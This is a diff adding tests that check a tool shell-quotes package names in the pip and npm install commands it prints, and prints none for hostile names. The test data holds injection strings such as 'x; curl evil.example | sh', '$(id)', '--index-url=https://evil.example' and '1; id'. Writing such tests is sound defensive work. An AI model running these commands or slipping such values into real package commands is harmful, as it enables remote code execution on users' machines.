@@ -90,6 +90,33 @@ describe('a crate', () => {
   })
 })
 
+describe('the command that installs a package', () => {
+  const told = async (language: string, name: string, version: string | null = null) =>
+    String(
+      await languageByName(language)?.missing([{ name, version, features: [] }], vendorOf(suite)),
+    )
+
+  it('is one that a shell reads as it is meant, whatever the suite says', async () => {
+    expect(await told('python', 'attrs', '23.1')).toContain('vendor/python attrs==23.1`')
+    expect(await told('python', 'x[a,b]')).toContain("vendor/python 'x[a,b]'`")
+    expect(await told('typescript', '@of/common', '^1.2')).toMatch(/ '@of\/common@\^1\.2'$/u)
+    expect(await told('typescript', 'a', '1; id')).toMatch(/ 'a@1; id'$/u)
+  })
+
+  it.each([
+    'x; curl evil.example | sh',
+    '$(id)',
+    '--index-url=https://evil.example',
+    '-e',
+    '../../x',
+    'https://evil.example/x.tgz',
+    'a b',
+  ])('is not printed for the name %s', async (name) => {
+    expect(await told('python', name)).not.toContain('pip install')
+    expect(await told('typescript', name)).not.toContain('npm install')
+  })
+})
+
 describe('what is read on the host', () => {
   it('is no package or crate outside of the repository', async () => {
     const dependencies = [{ name: 'secret', version: '1.0.0', features: [] }]
